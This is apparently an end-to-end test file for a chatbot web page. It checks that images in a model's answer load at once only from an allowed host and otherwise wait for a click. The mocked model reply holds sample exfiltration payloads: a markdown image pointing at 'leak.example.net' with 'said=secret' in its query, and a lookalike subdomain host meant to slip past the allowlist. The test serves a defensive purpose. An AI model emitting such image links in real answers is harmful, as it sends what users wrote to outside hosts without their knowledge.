import { afterAll, expect, test } from "vitest";
import { serveBots } from "../serve-bots.ts";
import { serveChatPage } from "./chat-page.ts";
import { startModelProvider } from "./model-provider.ts";

/* A model's image address can carry what a visitor wrote to another host. */

const provider = await startModelProvider();
afterAll(() => provider.close());
const { server, browser } = await serveBots(["e2e/streaming/bots"], {
  BANTER_AI_OPENAI_KEY: "key",
  BANTER_AI_OPENAI_BASE_URL: provider.baseUrl,
});

const PIXEL = Buffer.from("R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==", "base64");

test("images load after a click, or at once from a host that the owner allows", async () => {
  const page = await (await browser.newContext()).newPage();
  const requested: string[] = [];
  const referrers: (string | undefined)[] = [];
  await page.route(/example\.(com|net)/, (route) => {
    requested.push(route.request().url());
    referrers.push(route.request().headers()["referer"]);
    return route.fulfill({ contentType: "image/gif", body: PIXEL });
  });
  await page.goto(await serveChatPage(page, server.url, '{ typebot: "shows-pictures" }'));
  provider.plan.push((answer) => {
    answer.write(
      "![Logo](https://pictures.example.com/logo.gif) ![Map](https://leak.example.net/map.gif?said=secret)",
    );
    answer.write(" ![Odd](https://pictures.example.com.leak.example.net/a.gif)");
    answer.finish();
  });
  await page.getByRole("textbox").fill("Show me");
  await page.keyboard.press("Enter");
  await page.getByRole("img", { name: "Logo" }).waitFor();
  const show = page.getByRole("button", { name: "Map Show image from leak.example.net" });
  await show.waitFor();
  expect(requested).toEqual(["https://pictures.example.com/logo.gif"]);
  await show.press("Enter");
  const map = page.getByRole("img", { name: "Map" });
  await map.waitFor();
  // The button, which had the focus, is gone.
  await expect.poll(() => map.evaluate((image) => image.matches(":focus"))).toBe(true);
  await expect.poll(() => requested.length).toBe(2);
  expect(requested[1]).toBe("https://leak.example.net/map.gif?said=secret");
  expect(referrers).toEqual([undefined, undefined]);
  expect(await page.getByRole("button", { name: "Odd" }).count()).toBe(1);
  await page.context().close();
});
